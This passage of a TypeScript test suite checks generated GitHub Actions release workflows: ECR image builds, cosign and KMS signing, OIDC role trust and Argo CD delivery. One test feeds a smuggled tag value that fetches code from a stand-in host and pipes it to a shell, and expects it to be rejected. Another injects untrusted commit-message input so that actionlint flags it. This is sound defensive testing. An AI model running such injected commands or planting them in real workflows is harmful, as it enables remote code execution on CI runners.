import { execFileSync, spawnSync } from 'child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { dirname, join } from 'path';
import { parse, parseAllDocuments, stringify } from 'yaml';
import { CiWorkflows } from '../../lib/ci/ci-workflows';
import { applicationFor, applicationPath } from '../../lib/k8s/argocd/platform-applications-chart';
import { ManifestRepository } from '../../lib/manifests/manifest-repository';
import type { ResolvedPlatform } from '../../lib/model/resolved';
import { PlatformSpecLoader } from '../../lib/platform/loader';
import { Platform } from '../../lib/platform/platform';
import { repoPath, sandboxSpec } from '../fixtures';
import { resolveRole, trustAdmits } from '../support/iam-eval';
import { schemaErrors } from '../support/manifest-checks';
import { platformStackTemplates } from '../support/platform-templates';
import { manifestRepositoryOf, runReleasePullRequest } from '../support/release-pull-request';
import { kustomizeEditSetImage } from '../support/tag-movers';
import { actionlintFindings, actionValidator, actionValidatorProcess, shellcheckFindings } from '../support/workflow-lint';
import { loggingStubs } from '../support/workflow-run';

/** The sandbox, with the app delivered in `delivery` mode (and optionally the vault-plugin backend). */
function platformWith(delivery: string, options: { vaultPlugin?: boolean; mutate?: (spec: any) => void } = {}): ResolvedPlatform {
  const spec = sandboxSpec();
  spec.apps[0].delivery = delivery;
  if (delivery !== 'image-updater') delete spec.apps[0].imageUpdate;
  if (options.vaultPlugin) spec.secrets = { backend: 'vault-plugin', vault: { address: 'https://vault.example.com:8200' } };
  options.mutate?.(spec);
  return Platform.resolve(PlatformSpecLoader.fromObject(spec));
}

function workflowOf(platform: ResolvedPlatform): { path: string; text: string; workflow: any } {
  const file = new CiWorkflows(platform).workflowFiles().find((f) => f.path.endsWith('.github/workflows/release-main.yml'))!;
  return { path: file.path, text: file.content, workflow: parse(file.content) };
}

/**
 * A directory of stand-ins for the commands a step calls that need the network (aws, docker, cosign,
 * gh, argocd): each appends its arguments, one per line, to `calls.log`, and `aws` answers
 * `describe-images` as `$ECR_ANSWER` says. The scripts themselves run in real bash.
 */
function commandStubs(): { bin: string; calls: () => string[][] } {
  return loggingStubs({
    aws: [
      'if [ "$2" = describe-images ] && [[ " $* " == *" --query "* ]]; then echo sha256:previous; exit 0; fi',
      'if [ "$2" = describe-images ]; then',
      '  case "$ECR_ANSWER" in',
      '    found) echo \'{"imageDetails": [{}]}\';;',
      '    missing) echo "An error occurred (ImageNotFoundException) when calling the DescribeImages operation" >&2; exit 254;;',
      '    *) echo "An error occurred (AccessDeniedException) when calling the DescribeImages operation" >&2; exit 254;;',
      '  esac',
      'fi',
      'if [ "$2" = batch-get-image ]; then echo \'{"images": [{"imageManifest": "{\\"schemaVersion\\": 2}", "imageManifestMediaType": "application/vnd.oci.image.index.v1+json"}]}\'; fi',
    ].join('\n'),
    docker: '',
    cosign: 'if [ "$1" = verify ] && [ -n "$COSIGN_FAIL" ]; then echo "Error: no matching signatures" >&2; exit 1; fi',
    argocd: 'if [ "$1 $2" = "app create" ]; then cp "${@: -1}" "$(dirname "$0")/application.json"; fi',
    gh: 'if [ "$1 $2" = "pr list" ] && [ -n "$OPEN_PR" ]; then echo "$OPEN_PR"; fi',
  });
}

/** Runs a step's script in bash, as GitHub does, with the workflow's and the job's env and `env`. */
function runStep(workflow: any, job: string, stepName: string, env: Record<string, string>, cwd = tmpdir()) {
  const step = workflow.jobs[job].steps.find((s: any) => s.name === stepName);
  const result = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', step.run], {
    cwd,
    encoding: 'utf8',
    env: { PATH: process.env.PATH!, HOME: process.env.HOME!, ...workflow.env, ...workflow.jobs[job].env, ...step.env, ...env },
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

const modes: [string, ResolvedPlatform][] = [
  ['image-updater', platformWith('image-updater')],
  ['pull-request', platformWith('pull-request')],
  ['argocd-cli', platformWith('argocd-cli')],
  ['argocd-cli with argocd-vault-plugin', platformWith('argocd-cli', { vaultPlugin: true })],
  ['argocd-cli with deploy feedback', platformWith('argocd-cli', { mutate: (s) => (s.argocd = { deployFeedback: { enabled: true } }) })],
  ['pull-request with deploy feedback', platformWith('pull-request', { mutate: (s) => (s.argocd = { deployFeedback: { enabled: true } }) })],
];

describe.each(modes)('the release workflow (%s)', (_mode, platform) => {
  const { text, workflow, path } = workflowOf(platform);

  test('is written for the application repository, and passes action-validator, actionlint (expressions, untrusted input) and shellcheck on every run script', async () => {
    expect(path).toBe('sandbox-app/.github/workflows/release-main.yml');
    expect(actionValidator(text)).toEqual({ status: 0, output: '' });
    expect(await actionlintFindings(text)).toEqual([]);
    expect(shellcheckFindings(text)).toEqual([]);
  });

  test('runs on release tags, with id-token only where the role is assumed', () => {
    expect(workflow.on).toEqual({ push: { tags: ['v*'] } });
    expect(workflow.permissions).toEqual({ contents: 'read' });
    const withIdToken = Object.entries<any>(workflow.jobs).filter(([, job]) => job.permissions?.['id-token'] === 'write').map(([name]) => name);
    expect(withIdToken).toEqual(['push']);
  });

  test('assumes the app CI role with pinned current actions, and pushes each image as one matrix entry, its values in env', () => {
    const job = workflow.jobs.push;
    expect(job.steps.map((s: any) => s.uses).filter(Boolean)).toEqual([
      'actions/checkout@v7',
      'aws-actions/configure-aws-credentials@v6',
      'aws-actions/amazon-ecr-login@v2',
      'docker/setup-buildx-action@v4',
      'docker/build-push-action@v7',
      'sigstore/cosign-installer@v4',
    ]);
    expect(job.steps.find((s: any) => s.uses?.startsWith('aws-actions/configure')).with).toMatchObject({
      'role-to-assume': 'arn:aws:iam::123456789012:role/sandbox-main-ci',
      'aws-region': 'ap-northeast-1',
    });
    expect(workflow.env).toEqual({ AWS_REGION: 'ap-northeast-1', REGISTRY: '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com', TAG: '${{ github.ref_name }}' });
    // The images of an app have their own Dockerfiles and nothing orders them: one parallel job each.
    expect(job.strategy).toEqual({
      'fail-fast': false,
      'matrix': {
        include: [
          { image: 'migration', repository: 'sandbox/main/migration', dockerfile: 'build/migration/Dockerfile' },
          { image: 'app', repository: 'sandbox/main/app', dockerfile: 'build/app/Dockerfile.prod' },
          { image: 'web', repository: 'sandbox/main/web', dockerfile: 'build/web/Dockerfile' },
        ],
      },
    });
    expect(job.env.REPOSITORY).toBe('${{ matrix.repository }}');
  });

  test('no value from the spec is written into a script: scripts read them from env', () => {
    const scripts = Object.values<any>(workflow.jobs).flatMap((job) => job.steps.map((s: any) => s.run ?? '')).join('\n');
    for (const value of ['sandbox/main', 'build/app/Dockerfile.prod', 'main/overlays/production', 'deploy/**', 'example-org', '123456789012']) {
      expect({ value, inScript: scripts.includes(value) }).toEqual({ value, inScript: false });
    }
  });
});

describe('building, signing and tagging an image', () => {
  const platform = platformWith('image-updater', { mutate: (s) => (s.apps[0].containers[0].dockerfile = 'docker/my app.Dockerfile') });
  const { workflow } = workflowOf(platform);
  const steps = workflow.jobs.push.steps as any[];
  const step = (name: string) => steps.find((s) => s.name === name);
  const registry = '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com';

  /** Runs one step of the push job for the app image, with stand-ins for aws and cosign. */
  const run = (name: string, env: Record<string, string>) => {
    const stubs = commandStubs();
    const output = join(stubs.bin, 'output');
    writeFileSync(output, '');
    const result = runStep(workflow, 'push', name, {
      PATH: `${stubs.bin}:${process.env.PATH}`,
      GITHUB_OUTPUT: output,
      REPOSITORY: 'sandbox/main/app',
      PREVIOUS: 'v1.0.0',
      TAG: 'v1.0.1',
      ...env,
    });
    const outputs = Object.fromEntries(readFileSync(output, 'utf8').trim().split('\n').filter(Boolean).map((l) => l.split('=')));
    return { ...result, outputs, calls: stubs.calls() };
  };
  const find = (answer: string, build: string) => run('Look for the tag in ECR', { ECR_ANSWER: answer, BUILD: build });

  test('an image already in ECR under the tag is skipped: a tag is only put on a signed digest', () => {
    const { status, stdout, outputs, calls } = find('found', 'true');
    expect(status).toBe(0);
    expect(stdout).toContain('sandbox/main/app:v1.0.1 is in ECR already');
    expect(outputs).toEqual({ action: 'skip' });
    expect(calls.map((c) => c[0])).toEqual(['aws']);
    // Only cosign's installation and the tag's verification run on this path.
    const after = steps.slice(steps.indexOf(step('Look for the tag in ECR')) + 1);
    expect(after.filter((s) => s.if === undefined).map((s) => s.name)).toEqual([
      'Install cosign',
      'Verify the release tag\'s signature',
      'Verify the release tag\'s signing key signature',
    ]);
    for (const s of after.filter((x) => x.if !== undefined)) expect(s.if).toMatch(/^steps\.find\.outputs\.action [!=]= '(build|skip)'$/);
  });

  test('a missing image is built', () => {
    expect(find('missing', 'true')).toMatchObject({ status: 0, outputs: { action: 'build' } });
  });

  test('when only deployment files changed, the previous release\'s digest is taken again without a build', () => {
    const { status, outputs, calls } = find('missing', 'false');
    expect(status).toBe(0);
    expect(outputs).toEqual({ action: 'retag', digest: 'sha256:previous' });
    expect(calls[1]).toEqual(expect.arrayContaining(['describe-images', 'imageTag=v1.0.0']));
  });

  test('any other ECR error fails the step without building', () => {
    const { status, stderr, calls } = find('denied', 'true');
    expect(status).not.toBe(0);
    expect(stderr).toContain('AccessDeniedException');
    expect(calls.map((c) => c[0])).toEqual(['aws']);
  });

  test('BuildKit builds for the nodes\' platform with the GitHub Actions cache, provenance and SBOM, and pushes by digest only', () => {
    // docker/build-push-action README (v7): `provenance`/`sbom` are shorthands for --attest; BuildKit
    // docs "Cache storage backends: GitHub Actions cache" (type=gha, scope per image); the image
    // exporter's push-by-digest=true pushes no tag.
    expect(step('Build and push by digest').with).toEqual({
      'context': '.',
      'file': '${{ matrix.dockerfile }}',
      'platforms': 'linux/amd64',
      'outputs': 'type=image,name=${{ env.REGISTRY }}/${{ matrix.repository }},push-by-digest=true,name-canonical=true,push=true',
      'cache-from': 'type=gha,scope=${{ matrix.repository }}',
      'cache-to': 'type=gha,mode=max,scope=${{ matrix.repository }}',
      'provenance': 'mode=max',
      'sbom': 'true',
    });
    expect(workflow.jobs.push['runs-on']).toBe('ubuntu-latest');
  });

  test('arm64 nodes: the images are built for linux/arm64, under QEMU on the x64 runner', async () => {
    const { workflow: arm, text } = workflowOf(platformWith('image-updater', { mutate: (s) => (s.cluster = { nodes: { instanceTypes: ['m7g.large'] } }) }));
    expect(await actionlintFindings(text)).toEqual([]);
    expect(arm.jobs.push['runs-on']).toBe('ubuntu-latest');
    const names = arm.jobs.push.steps.map((s: any) => s.name);
    expect(names.indexOf('Set up QEMU')).toBe(names.indexOf('Set up BuildKit') - 1);
    expect(arm.jobs.push.steps.find((s: any) => s.name === 'Set up QEMU')).toMatchObject({ uses: 'docker/setup-qemu-action@v4', with: { platforms: 'arm64' } });
    expect(arm.jobs.push.steps.find((s: any) => s.name === 'Build and push by digest').with.platforms).toBe('linux/arm64');
    expect(steps.map((s) => s.name)).not.toContain('Set up QEMU');
  });

  /**
   * The one verification the workflow makes of an image: the certificate's identity is the release
   * workflow's file at the release tag, its issuer GitHub's OIDC issuer (cosign verify's keyless flags).
   */
  const cosignVerify = (image: string) => [
    'cosign',
    'verify',
    '--certificate-identity',
    'https://github.com/example-org/sandbox-app/.github/workflows/release-main.yml@refs/tags/v1.0.1',
    '--certificate-oidc-issuer',
    'https://token.actions.githubusercontent.com',
    image,
  ];

  test('the digest built (or re-tagged) is signed keylessly, then verified with the release workflow\'s identity at the tag and GitHub\'s issuer', () => {
    const sign = step('Sign the digest (keyless, with the run\'s OIDC token)');
    expect(sign.env.DIGEST).toBe('${{ steps.build.outputs.digest || steps.find.outputs.digest }}');
    expect(workflow.jobs.push.permissions).toEqual({ 'id-token': 'write', 'contents': 'read' });
    const { status, calls } = run(sign.name, { DIGEST: 'sha256:abc' });
    expect(status).toBe(0);
    expect(calls).toEqual([
      ['cosign', 'sign', '--yes', `${registry}/sandbox/main/app@sha256:abc`],
      cosignVerify(`${registry}/sandbox/main/app@sha256:abc`),
    ]);
  });

  test('the tag is put on exactly the signed digest: its manifest written again, with the digest ECR must check', () => {
    const { status, calls } = run('Tag the digest', { DIGEST: 'sha256:abc' });
    expect(status).toBe(0);
    expect(calls[0]).toEqual(expect.arrayContaining(['batch-get-image', 'imageDigest=sha256:abc', '--accepted-media-types', 'application/vnd.oci.image.index.v1+json']));
    expect(calls[1]).toEqual([
      'aws',
      'ecr',
      'put-image',
      '--repository-name',
      'sandbox/main/app',
      '--image-tag',
      'v1.0.1',
      '--image-digest',
      'sha256:abc',
      '--image-manifest',
      '{"schemaVersion": 2}',
      '--image-manifest-media-type',
      'application/vnd.oci.image.index.v1+json',
    ]);
  });

  test('every path ends by verifying the release tag\'s signature, before the delivery job (which needs this one) moves a tag', () => {
    const { status, calls } = run('Verify the release tag\'s signature', {});
    expect(status).toBe(0);
    expect(calls).toEqual([cosignVerify(`${registry}/sandbox/main/app:v1.0.1`)]);
    for (const mode of ['pull-request', 'argocd-cli']) expect(workflowOf(platformWith(mode)).workflow.jobs.deliver.needs).toBe('push');
  });

  test('a signature that does not verify fails the step, so the steps after it (tagging, delivery) do not run', () => {
    const signStep = 'Sign the digest (keyless, with the run\'s OIDC token)';
    expect(run(signStep, { DIGEST: 'sha256:abc', COSIGN_FAIL: '1' })).toMatchObject({ status: 1, stderr: expect.stringContaining('no matching signatures') });
    expect(run('Verify the release tag\'s signature', { COSIGN_FAIL: '1' }).status).toBe(1);
    // Neither step, nor the tag step after them, opts into running after a failure.
    expect(steps.filter((s) => /always\(\)|failure\(\)/.test(s.if ?? ''))).toEqual([]);
  });

  const signingKey = 'awskms:///arn:aws:kms:ap-northeast-1:123456789012:alias/sandbox-image-signing';

  test('the Image Updater\'s app is signed a second time, with the platform\'s KMS key, after the keyless signature, and that signature verified', () => {
    // The Image Updater (v1.3) verifies by public key only; cosign's AWS KMS reference is
    // awskms://[ENDPOINT]/[ID/ALIAS/ARN] (sigstore/sigstore pkg/signature/kms/aws/client.go).
    expect(workflow.jobs.push.env.SIGNING_KEY).toBe(signingKey);
    const keyless = steps.indexOf(step('Sign the digest (keyless, with the run\'s OIDC token)'));
    const keyed = step('Sign the digest with the platform\'s signing key (AWS KMS)');
    expect(steps.indexOf(keyed)).toBe(keyless + 1);
    expect(keyed).toMatchObject({ if: "steps.find.outputs.action != 'skip'", env: { DIGEST: '${{ steps.build.outputs.digest || steps.find.outputs.digest }}' } });
    const { status, calls } = run(keyed.name, { DIGEST: 'sha256:abc', SIGNING_KEY: workflow.jobs.push.env.SIGNING_KEY });
    expect(status).toBe(0);
    expect(calls).toEqual([
      ['cosign', 'sign', '--yes', '--key', signingKey, `${registry}/sandbox/main/app@sha256:abc`],
      ['cosign', 'verify', '--key', signingKey, `${registry}/sandbox/main/app@sha256:abc`],
    ]);
    expect(run(keyed.name, { DIGEST: 'sha256:abc', SIGNING_KEY: signingKey, COSIGN_FAIL: '1' }).status).toBe(1);
  });

  test('every path ends by verifying the tag\'s signing key signature too, the one the Image Updater checks', () => {
    const { status, calls } = run('Verify the release tag\'s signing key signature', { SIGNING_KEY: signingKey });
    expect(status).toBe(0);
    expect(calls).toEqual([['cosign', 'verify', '--key', signingKey, `${registry}/sandbox/main/app:v1.0.1`]]);
    expect(steps.at(-1).name).toBe('Verify the release tag\'s signing key signature');
  });

  test('an app delivered another way is signed keylessly only: nothing of the key in its workflow', () => {
    for (const mode of ['pull-request', 'argocd-cli']) {
      const { text } = workflowOf(platformWith(mode));
      expect(text).not.toMatch(/SIGNING_KEY|awskms/);
    }
  });

  test('the workflows\' README says how to verify the key signature by hand, for the Image Updater\'s app only', () => {
    const readme = (p: ResolvedPlatform) => new CiWorkflows(p).workflowFiles().find((f) => f.path === 'README.md')!.content;
    expect(readme(platform)).toContain(`\`cosign verify --key ${signingKey} <image>:<tag>\`.`);
    expect(readme(platformWith('pull-request'))).not.toContain('--key');
  });

  test('the steps run in order: find, build, sign, tag, verify', () => {
    const order = [
      'Look for the tag in ECR',
      'Build and push by digest',
      'Sign the digest (keyless, with the run\'s OIDC token)',
      'Sign the digest with the platform\'s signing key (AWS KMS)',
      'Tag the digest',
      'Verify the release tag\'s signature',
      'Verify the release tag\'s signing key signature',
    ];
    expect(order.map((n) => steps.indexOf(step(n)))).toEqual([...order.map((n) => steps.indexOf(step(n)))].sort((a, b) => a - b));
  });

  test.each([
    ['v1.2.3', 0],
    ['v1;curl${IFS}evil.example|sh', 1],
  ])('the tag %s is checked before anything is built (exit %d)', (tag, expected) => {
    expect(runStep(workflow, 'push', 'Check the tag is an image tag', { TAG: tag }).status).toBe(expected);
  });
});

describe('apps[].supplyChain.sign: false (a sandbox)', () => {
  const { text, workflow } = workflowOf(platformWith('pull-request', { mutate: (s) => (s.apps[0].supplyChain = { sign: false }) }));
  const steps = workflow.jobs.push.steps as any[];

  test('builds, attests and pushes by digest as before, and neither signs nor verifies', async () => {
    expect(steps.map((s) => s.name ?? s.uses)).toEqual([
      'Check the tag is an image tag',
      'actions/checkout@v7',
      'Assume the CI role',
      'Log in to ECR',
      'Look for the tag in ECR',
      'Set up BuildKit',
      'Build and push by digest',
      'Tag the digest',
    ]);
    expect(text).not.toMatch(/cosign|SIGNER|ISSUER/);
    expect(steps.find((s) => s.name === 'Build and push by digest').with).toMatchObject({ provenance: 'mode=max', sbom: 'true' });
    expect(await actionlintFindings(text)).toEqual([]);
    expect(shellcheckFindings(text)).toEqual([]);
  });

  test('the workflow output\'s README says the images are not signed', () => {
    const readme = new CiWorkflows(platformWith('image-updater', { mutate: (s) => (s.apps[0].supplyChain = { sign: false }) })).workflowFiles().find((f) => f.path === 'README.md')!.content;
    expect(readme).toContain('it is not signed (`supplyChain.sign: false`), so nothing verifies it.');
    expect(readme).not.toContain('cosign verify');
  });
});

describe('workflow and role agree', () => {
  const trustOf = (platform: ResolvedPlatform) => {
    const [json] = platformStackTemplates([platform]);
    const role = Object.values<any>(json.Resources).find((r) => r.Type === 'AWS::IAM::Role' && r.Properties.RoleName === 'sandbox-main-ci');
    return resolveRole(role.Properties, json).AssumeRolePolicyDocument;
  };
  const provider = 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com';
  const claims = (sub: string) => ({ 'token.actions.githubusercontent.com:sub': sub, 'token.actions.githubusercontent.com:aud': 'sts.amazonaws.com' });

  test('a tag push of a new repository carries the immutable subject the CI role trusts; the name form and a branch do not', () => {
    // docs.github.com, OpenID Connect reference, "Immutable subject claims": repositories created
    // after 15 July 2026 send repo:OWNER@OWNER-ID/REPO@REPO-ID:ref:refs/tags/TAG.
    const trust = trustOf(platformWith('image-updater'));
    expect(workflowOf(platformWith('image-updater')).workflow.on.push.tags).toEqual(['v*']);
    expect(trustAdmits(trust, provider, claims('repo:example-org@100000001/sandbox-app@200000001:ref:refs/tags/v1.0.0'))).toBe(true);
    expect(trustAdmits(trust, provider, claims('repo:example-org/sandbox-app:ref:refs/tags/v1.0.0'))).toBe(false);
    expect(trustAdmits(trust, provider, claims('repo:example-org@100000001/sandbox-app@999:ref:refs/tags/v1.0.0'))).toBe(false);
    expect(trustAdmits(trust, provider, claims('repo:example-org@100000001/sandbox-app@200000001:ref:refs/heads/main'))).toBe(false);
  });

  test('an older repository given subjectFormat name is trusted by name', () => {
    const trust = trustOf(
      platformWith('image-updater', {
        mutate: (s) => {
          s.apps[0].ci.subjectFormat = 'name';
          delete s.apps[0].ci.repositoryId;
        },
      }),
    );
    expect(trustAdmits(trust, provider, claims('repo:example-org/sandbox-app:ref:refs/tags/v1.0.0'))).toBe(true);
  });

  test('actionlint does report untrusted input written into a script: the check is real', async () => {
    const { text } = workflowOf(platformWith('image-updater'));
    const injected = text.replace('echo "previous=$previous"', 'echo "${{ github.event.head_commit.message }}"');
    expect((await actionlintFindings(injected)).join('\n')).toMatch(/github\.event\.head_commit\.message" is potentially untrusted/);
    const misspelt = text.replace('runs-on: ubuntu-latest', 'runs_on: ubuntu-latest');
    expect(actionValidator(misspelt).status).not.toBe(0);
    // The verdicts in this process are the CLI's, exit code and output, for a valid workflow and a broken one.
    expect(actionValidatorProcess(text)).toEqual({ status: 0, output: '' });
    expect(actionValidatorProcess(misspelt)).toEqual(actionValidator(misspelt));
    expect(shellcheckFindings(text.replace('"$REPOSITORY"', '$REPOSITORY'))).not.toEqual([]);
  });
});

describe('delivery modes', () => {
  test('image-updater: nothing after the push (the Image Updater picks up the tag)', () => {
    expect(Object.keys(workflowOf(platformWith('image-updater')).workflow.jobs)).toEqual(['changes', 'push']);
  });

  describe('pull-request', () => {
    const { workflow } = workflowOf(platformWith('pull-request'));
    const deliver = workflow.jobs.deliver;
    const registry = '123456789012.dkr.ecr.ap-northeast-1.amazonaws.com';

    test('checks out the manifest repository with the token', () => {
      expect(deliver.needs).toBe('push');
      expect(deliver.steps[0]).toEqual({
        uses: 'actions/checkout@v7',
        with: { repository: 'example-org/sandbox-manifests', ref: 'main', token: '${{ secrets.MANIFEST_REPO_TOKEN }}', path: 'manifests' },
      });
      expect(deliver.env).toMatchObject({ APP: 'main', BASE: 'main', OVERLAY: 'main/overlays/production' });
    });

    // A manifest checkout (a real Git repository with a bare origin) in which the two steps run.
    const root = mkdtempSync(join(tmpdir(), 'pr-'));
    const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], { cwd, encoding: 'utf8' }).trim();
    execFileSync('git', ['init', '-q', '--bare', '-b', 'main', join(root, 'origin.git')]);
    const manifests = join(root, 'manifests');
    // The origin is empty, as intended: git says so on stderr even with -q, so its stderr is kept.
    execFileSync('git', ['clone', '-q', join(root, 'origin.git'), manifests], { stdio: 'pipe' });
    mkdirSync(join(manifests, 'main/overlays/production'), { recursive: true });
    writeFileSync(join(manifests, 'main/overlays/production/kustomization.yaml'), stringify({ images: [{ name: `${registry}/sandbox/main/app`, newTag: 'v1.0.0' }] }));
    git(manifests, 'add', '-A');
    git(manifests, 'commit', '-qm', 'first');
    git(manifests, 'push', '-q', 'origin', 'HEAD:main');
    const stubs = commandStubs();
    const path = `${repoPath('test', 'support', 'avp-stubs')}:${stubs.bin}:${process.env.PATH}`;
    const env = { PATH: path, TAG: 'v1.1.0', GH_TOKEN: 'x', SOURCE: 'https://github.com/example-org/sandbox-app/releases/tag/v1.1.0' };

    test('sets every image of the app to the tag in the overlay', () => {
      expect(runStep(workflow, 'deliver', 'Set main to the new tag in main/overlays/production', env, root).status).toBe(0);
      const images = parse(readFileSync(join(manifests, 'main/overlays/production/kustomization.yaml'), 'utf8')).images;
      expect(Object.fromEntries(images.map((i: any) => [i.name.split('/').pop(), i.newTag]))).toEqual({ app: 'v1.1.0', web: 'v1.1.0', migration: 'v1.1.0' });
    });

    // A re-run of the job runs on a fresh runner: a new checkout of the base, which has no
    // remote-tracking ref for the release branch (a bare --force-with-lease refused its push).
    const freshRunner = (name: string) => {
      const dir = join(root, name);
      mkdirSync(dir);
      execFileSync('git', ['clone', '-q', '--depth=1', '--branch', 'main', join(root, 'origin.git'), join(dir, 'manifests')], { stdio: 'pipe' });
      expect(runStep(workflow, 'deliver', 'Set main to the new tag in main/overlays/production', env, dir).status).toBe(0);
      return join(dir, 'manifests');
    };
    const creates = () => stubs.calls().filter((c) => c[0] === 'gh' && c[1] === 'pr' && c[2] === 'create');
    const releaseTip = () => git(manifests, 'ls-remote', 'origin', 'refs/heads/release/main-v1.1.0');

    test('pushes a release branch and opens one pull request; a re-run on a fresh runner keeps them instead of failing', () => {
      const first = runStep(workflow, 'deliver', 'Open the pull request', env, manifests);
      expect(first.status).toBe(0);
      const tip = releaseTip();
      expect(tip).toContain('refs/heads/release/main-v1.1.0');
      const again = runStep(workflow, 'deliver', 'Open the pull request', { ...env, OPEN_PR: '12' }, freshRunner('rerun'));
      expect({ status: again.status, stderr: again.stderr }).toEqual({ status: 0, stderr: '' });
      expect(again.stdout).toContain('release/main-v1.1.0 is at v1.1.0 already');
      expect(again.stdout).toContain('is open already');
      // Nothing pushed again: the branch names the first run's commit.
      expect(releaseTip()).toBe(tip);
      expect(creates()).toHaveLength(1);
      expect(creates()[0]).toEqual(expect.arrayContaining(['--base', 'main', '--title', 'main: release v1.1.0']));
    });

    test('a release branch someone moved is replaced by the release, with a lease on the tip it read', () => {
      const elsewhere = freshRunner('moved');
      git(elsewhere, 'switch', '-q', '-c', 'release/main-v1.1.0');
      writeFileSync(join(elsewhere, 'NOTES'), 'a stray commit\n');
      git(elsewhere, 'add', 'NOTES');
      git(elsewhere, 'commit', '-qm', 'stray');
      git(elsewhere, 'push', '-q', '--force', 'origin', 'HEAD:refs/heads/release/main-v1.1.0');
      const run = runStep(workflow, 'deliver', 'Open the pull request', { ...env, OPEN_PR: '12' }, freshRunner('after-move'));
      expect({ status: run.status, stderr: run.stderr }).toEqual({ status: 0, stderr: '' });
      const files = git(manifests, '--git-dir', join(root, 'origin.git'), 'ls-tree', '-r', '--name-only', 'refs/heads/release/main-v1.1.0');
      expect(files.split('\n')).toEqual(['main/overlays/production/kustomization.yaml']);
      expect(creates()).toHaveLength(1);
    });

    test('once the pull request is merged, a re-run finds the base at the tag and proposes nothing', () => {
      git(manifests, '--git-dir', join(root, 'origin.git'), 'update-ref', 'refs/heads/main', 'refs/heads/release/main-v1.1.0');
      const calls = stubs.calls().length;
      const run = runStep(workflow, 'deliver', 'Open the pull request', env, freshRunner('merged'));
      expect({ status: run.status, stderr: run.stderr }).toEqual({ status: 0, stderr: '' });
      expect(run.stdout).toContain('main/overlays/production is at v1.1.0 already on main: nothing to propose');
      // No gh call at all: no pull request looked for, none opened.
      expect(stubs.calls().slice(calls)).toEqual([]);
    });
  });

  describe('pull-request with deploy feedback, against a real checkout of the generated manifest tree', () => {
    const sha = '3f2c1e0b9a8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b';
    const platform = platformWith('pull-request', { mutate: (s) => (s.argocd = { deployFeedback: { enabled: true } }) });
    const app = platform.apps[0];
    const file = applicationPath(platform, app);
    const origin = manifestRepositoryOf(new ManifestRepository(platform).manifestFiles());
    const git = (...args: string[]) => execFileSync('git', args, { cwd: origin, encoding: 'utf8' }).trim();
    const main = git('rev-parse', 'main');
    const run = runReleasePullRequest(platform, origin, 'v1.1.0', sha);
    const show = (path: string, rev = run.branch) => parse(git('show', `${rev}:${path}`));
    const tags = (images: string[]) => Object.fromEntries(images.map((i) => [i.split('/').pop()!.split(':')[0], i.split(':').pop()]));

    test('the generated Application has no release yet: Argo CD deploys the overlay\'s tags, and without a commit no trigger fires', () => {
      expect(show(file, main).spec.source.kustomize).toBeUndefined();
    });

    test('one commit on the release branch moves the overlay\'s tag and the Application\'s tag and revision', () => {
      expect({ status: run.status, failedStep: run.failedStep }).toEqual({ status: 0, failedStep: undefined });
      expect(git('rev-list', '--count', `main..${run.branch}`)).toBe('1');
      expect(git('diff', '--name-only', 'main', run.branch, '--').split('\n').sort()).toEqual([file, `${app.paths.overlay}/kustomization.yaml`].sort());
      const kustomization = show(`${app.paths.overlay}/kustomization.yaml`);
      expect(Object.fromEntries(kustomization.images.map((i: any) => [i.name.split('/').pop(), i.newTag]))).toEqual({ app: 'v1.1.0', web: 'v1.1.0', migration: 'v1.1.0' });
      const application = show(file);
      expect(tags(application.spec.source.kustomize.images)).toEqual({ app: 'v1.1.0', web: 'v1.1.0', migration: 'v1.1.0' });
      expect(application.spec.source.kustomize.commonAnnotations).toEqual({ 'cdk-eks-gitops.io/release-revision': sha });
      expect(run.gh.pullRequests()).toMatchObject([{ head: run.branch, base: 'main', title: 'main: release v1.1.0' }]);
    });

    test('everything else in the Application is as generated, the header kept, and it still validates against the Application CRD', () => {
      const before = show(file, main);
      const after = show(file);
      const withoutKustomize = (a: any) => ({ ...a, spec: { ...a.spec, source: { ...a.spec.source, kustomize: undefined } } });
      expect(withoutKustomize(after)).toEqual(withoutKustomize(before));
      expect(git('show', `${run.branch}:${file}`).split('\n')[0]).toBe(git('show', `main:${file}`).split('\n')[0]);
      expect(schemaErrors([after])).toEqual([]);
    });

    /**
     * What Argo CD deploys from the overlay at a commit for an Application's source: its repo-server
     * runs `kustomize edit set image` with `kustomize.images` and `kustomize edit add annotation` with
     * `commonAnnotations` in the path, then builds it (util/kustomize/kustomize.go, Build, v3.4.4).
     */
    const deployed = (rev: string, application: any) => {
      const dir = mkdtempSync(join(tmpdir(), 'argocd-source-'));
      execFileSync('git', ['--work-tree', dir, 'checkout', rev, '--', '.'], { cwd: origin, stdio: 'pipe' });
      // The checkout moved the index of the origin's own work tree: put it back.
      execFileSync('git', ['reset', '-q'], { cwd: origin });
      const overlay = join(dir, app.paths.overlay);
      const { images = [], commonAnnotations = undefined } = application.spec.source.kustomize ?? {};
      if (images.length) kustomizeEditSetImage(overlay, images.map((i: string) => `${i.slice(0, i.lastIndexOf(':'))}=${i}`));
      const k = parse(readFileSync(join(overlay, 'kustomization.yaml'), 'utf8'));
      if (commonAnnotations) writeFileSync(join(overlay, 'kustomization.yaml'), stringify({ ...k, commonAnnotations }));
      const objects = parseAllDocuments(execFileSync('kubectl', ['kustomize', overlay], { encoding: 'utf8' })).map((d) => d.toJS());
      const deployment = objects.find((o) => o.kind === 'Deployment');
      return {
        tags: tags(deployment.spec.template.spec.containers.map((c: any) => c.image)),
        migration: objects.find((o) => o.kind === 'Job').spec.template.spec.containers[0].image.split(':').pop(),
        revision: deployment.metadata.annotations?.['cdk-eks-gitops.io/release-revision'],
      };
    };

    test('the merged commit deploys the new tag under the new commit; synced before the root applies the new Application, the next tag waits for it', () => {
      expect(deployed(run.branch, show(file))).toEqual({ tags: { app: 'v1.1.0', web: 'v1.1.0' }, migration: 'v1.1.0', revision: sha });
      // The first release: the child with its old spec (no release) deploys the overlay, under no
      // commit, so nothing is reported until the root has applied the new Application.
      expect(deployed(run.branch, show(file, main))).toEqual({ tags: { app: 'v1.1.0', web: 'v1.1.0' }, migration: 'v1.1.0', revision: undefined });
